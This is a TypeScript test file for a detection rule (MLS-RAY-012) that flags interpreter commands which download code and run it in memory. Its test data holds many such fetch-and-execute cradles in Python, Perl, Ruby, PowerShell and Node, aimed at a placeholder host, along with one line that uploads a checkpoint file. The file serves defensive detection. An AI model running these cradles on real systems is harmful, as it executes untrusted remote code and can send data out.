/**
 * Interpreter code that runs what it downloads in one expression (exec-interpreter-fetched-code.ts
 * and PowerShell's `iex` of a download): the reading names the download tool as fed to a script
 * (`pipedToShell`), as for `curl URL | python3 -`, and MLS-RAY-012 alerts through the shipped
 * rules; code run from a file, a download whose text is not run, or a variable nobody downloaded
 * into stay `runtime` only.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds } from './exec-events.test-support.js';
import { canonicalExecValue, INDIRECT_RUNTIME } from './exec-canonical.js';
import { memoryFetchTool, statementEnd } from './exec-interpreter-fetched-code.js';
import { lexScript } from './exec-interpreter-lex.js';
import { lexPython } from './exec-interpreter-lex-python.js';
import { codeBindings } from './exec-interpreter-bindings.js';
import { bracketMatch } from './exec-interpreter-value.js';

const RULE = 'MLS-RAY-012';
const U = 'http://203.0.113.5/p';
const fed = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.fedToShell;

const CRADLES: Array<[string, string[], string]> = [
  ['Python exec(urlopen().read())', ['python3', '-c', `import urllib.request; exec(urllib.request.urlopen("${U}").read())`], 'curl'],
  ['Python from-import, .decode()', ['python3', '-c', `from urllib.request import urlopen; exec(urlopen("${U}").read().decode())`], 'curl'],
  ['Python requests, eval(compile())', ['python3', '-c', `import requests; eval(compile(requests.get("${U}").text, "x", "exec"))`], 'curl'],
  ['Perl eval get', ['perl', '-MLWP::Simple', '-e', `eval get("${U}")`], 'curl'],
  ['Perl eval(get())', ['perl', '-MLWP::Simple', '-e', `eval(get("${U}")); print 1`], 'curl'],
  ['Ruby eval(Net::HTTP.get)', ['ruby', '-e', `require "net/http"; eval(Net::HTTP.get(URI("${U}")))`], 'curl'],
  ['PowerShell IEX DownloadString', ['pwsh', '-c', `IEX (New-Object Net.WebClient).DownloadString('${U}')`], 'Invoke-WebRequest'],
  ['PowerShell iex (iwr).Content', ['powershell', '-nop', '-c', `iex (iwr ${U} -UseBasicParsing).Content`], 'Invoke-WebRequest'],
  ['PowerShell irm | iex', ['pwsh', '-c', `irm ${U} | iex`], 'Invoke-RestMethod'],
  ['PowerShell through a variable', ['pwsh', '-c', `$s = (New-Object Net.WebClient).DownloadString('${U}'); Invoke-Expression $s`], 'Invoke-WebRequest'],
];

/** The download reaches the code call through names the code assigns once. */
const THROUGH_NAMES: Array<[string, string[], string]> = [
  ['Python r = requests.get; exec(r.text)', ['python3', '-c', `import requests\nr = requests.get("${U}")\nexec(r.text)`], 'curl'],
  ['Python two names', ['python3', '-c', `import urllib.request as u; r = u.urlopen("${U}"); src = r.read().decode(); exec(compile(src, "<x>", "exec"))`], 'curl'],
  ['Python json field', ['python3', '-c', `import requests; cfg = requests.get("${U}").json(); exec(cfg["hook"])`], 'curl'],
  ['Node await fetch', ['node', '-e', `(async () => { const r = await fetch("${U}"); const t = await r.text(); eval(t); })()`], 'curl'],
  ['Node new Function', ['node', '-e', `(async () => { const r = await fetch("${U}"); new Function(await r.text())(); })()`], 'curl'],
  ['Perl my $c = get', ['perl', '-MLWP::Simple', '-e', `my $c = get("${U}"); eval $c`], 'curl'],
  ['Ruby body', ['ruby', '-e', `require "net/http"; b = Net::HTTP.get(URI("${U}")); eval(b)`], 'curl'],
  ['Node IIFE body', ['node', '-e', `(async () => { const r = await fetch("${U}"); const t = await r.text(); eval(t); })()`], 'curl'],
];

/** The download reaches the code through a callback: a promise step, or the download call's own callback. */
const THROUGH_CALLBACKS: Array<[string, string[], string]> = [
  ['.then(eval)', ['node', '-e', `fetch("${U}").then(r => r.text()).then(eval)`], 'curl'],
  ['.then(t => eval(t))', ['node', '-e', `fetch("${U}").then(r => r.text()).then(t => eval(t))`], 'curl'],
  ['a named promise', ['node', '-e', `const p = fetch("${U}").then((r) => r.text()); p.then((src) => { new Function(src)(); })`], 'curl'],
  ['https.get callback, data += chunk', ['node', '-e', `require("https").get("${U}", res => { let d = ""; res.on("data", c => d += c); res.on("end", () => eval(d)); })`], 'curl'],
  ['https.get callback, Buffer.concat', ['node', '-e', `const h = require("https"); h.get("${U}", (res) => { const b = []; res.on("data", (c) => b.push(c)); res.on("end", () => { new Function(Buffer.concat(b).toString())(); }); })`], 'curl'],
];

describe('code that runs what it downloads', () => {
  it('follows the download through names assigned once', () => {
    for (const [name, argv, tool] of THROUGH_NAMES) {
      expect(fed(argv), name).toContain(tool);
      expect(execRuleIds(argv), name).toContain(RULE);
    }
  });

  it('follows the download through a promise step or a callback that runs code', () => {
    for (const [name, argv, tool] of THROUGH_CALLBACKS) {
      expect(fed(argv), name).toContain(tool);
      expect(canonicalExecValue(argv)!.indirectKinds & INDIRECT_RUNTIME, name).toBe(INDIRECT_RUNTIME);
      expect(execRuleIds(argv), name).toContain(RULE);
    }
  });

  it('leaves promise steps and callbacks that run no downloaded code', () => {
    for (const argv of [
      ['node', '-e', `fetch("${U}").then(r => r.json()).then(d => console.log(d.version))`],
      ['node', '-e', `fetch("${U}").then(r => r.text()); eval(process.env.HOOK)`],
      ['node', '-e', `fetch("${U}").then(r => r.text()).then(console.log)\nPromise.resolve(process.env.HOOK).then(eval)`],
      ['node', '-e', `require("https").get("${U}", (res) => res.pipe(require("fs").createWriteStream("/tmp/x")))`],
    ]) {
      expect(fed(argv), argv.join(' ')).toEqual([]);
      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
    }
  });

  it('does not follow a name assigned twice, a member of the same name, or another name', () => {
    for (const argv of [
      // `r` is reassigned: which value runs is not known.
      ['python3', '-c', `import requests; r = requests.get("${U}"); r = open("x.py").read(); exec(r)`],
      // `cfg.r` is a member, not the name `r`.
      ['python3', '-c', `import requests; r = requests.get("${U}"); exec(cfg.r)`],
      // Downloaded, assigned, but what runs is another name.
      ['node', '-e', `(async () => { const r = await fetch("${U}"); const code = process.env.HOOK; console.log(await r.text()); eval(code); })()`],
    ]) {
      expect(fed(argv), argv.join(' ')).toEqual([]);
      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
    }
  });

  it('names the download tool as fed to a script, and MLS-RAY-012 alerts', () => {
    for (const [name, argv, tool] of CRADLES) {
      expect(fed(argv), name).toContain(tool);
      expect(canonicalExecValue(argv)!.indirectKinds & INDIRECT_RUNTIME, name).toBe(INDIRECT_RUNTIME);
      expect(execRuleIds(argv), name).toContain(RULE);
    }
  });

  it('leaves code run from elsewhere, and downloads whose text is not run', () => {
    for (const argv of [
      ['python3', '-c', `import requests; exec(open("x.py").read()); print(requests.get("${U}").status_code)`],
      ['python3', '-c', `import urllib.request as u; u.urlretrieve("${U}", "/tmp/p"); exec(open("/tmp/p").read())`],
      ['python3', '-c', `import requests; r = requests.post("${U}", data=open("/ckpt/model.pt","rb")); exec(r.text)`],
      ['pwsh', '-c', 'iex (Get-Content ./a.ps1 -Raw)'],
      ['pwsh', '-c', `$r = iwr ${U}; Write-Output $r.StatusCode; iex $env:PAYLOAD`],
      ['perl', '-MLWP::Simple', '-e', `my $x = get("${U}"); print length($x); eval $ENV{CODE}`],
    ]) {
      expect(fed(argv), argv.join(' ')).toEqual([]);
      expect(execRuleIds(argv), argv.join(' ')).not.toContain(RULE);
    }
  });

  it('counts only downloads into memory: nothing written to a file, nothing sent', () => {
    expect(memoryFetchTool(['curl', U, '#requests.get'])).toBe('curl');
    expect(memoryFetchTool(['wget', '-q', U])).toBe('wget');
    for (const argv of [['curl', '-o', '/tmp/p', U], ['curl', '-T', '/ckpt/m.pt', U], ['curl', '--data-binary', '@f', U], ['curl', '-F', 'f=@x', U], ['wget', '--post-file=f', U], ['scp', 'a', 'b'], []]) {
      expect(memoryFetchTool(argv), argv.join(' ')).toBeNull();
    }
  });

  it('binds names inside a function body passed in parentheses; an assignment in parentheses poisons its name', () => {
    const names = (code: string, lang: 'js' | 'python' | 'perl'): string[] => {
      const tokens = (lang === 'python' ? lexPython(code) : lexScript(code, lang)).tokens;
      return [...codeBindings(tokens, bracketMatch(tokens), lang).keys()].sort();
    };
    expect(names('(async () => { const r = await fetch(u); const t = await r.text(); })()', 'js')).toEqual(['r', 't']);
    // `d += c` in a callback and `m = …` in a condition reassign: neither keeps its first value.
    expect(names('let d = ""; res.on("data", c => d += c); let m = 1; if ((m = re.exec(s))) f(m)', 'js')).toEqual([]);
    expect(names('my $x = 1; foo($x = 2); my $y = 3', 'perl')).toEqual(['$y']);
    // Python keyword arguments assign nothing.
    expect(names('cmd = "id"\nsubprocess.run(cmd, shell=True)\nf(cmd=cmd)', 'python')).toEqual(['cmd']);
    // So eval(d) reads as code known at run time, not as eval("").
    const argv = ['node', '-e', 'let d = ""; process.stdin.on("data", c => d += c); process.stdin.on("end", () => eval(d))'];
    expect(canonicalExecValue(argv)!.indirectKinds & INDIRECT_RUNTIME).toBe(INDIRECT_RUNTIME);
  });

  it('ends a call without parentheses at the next top-level `;`', () => {
    const tokens = lexScript('eval get("u", f(1; 2)); print 1', 'perl').tokens;
    const m = bracketMatch(tokens);
    const end = statementEnd(tokens, m, 0);
    expect(tokens[end]?.v).toBe(';');
    expect(tokens.slice(end + 1).map((t) => t.v)).toEqual(['print', '1']);
    expect(statementEnd(tokens, m, end)).toBe(tokens.length);
  });
});
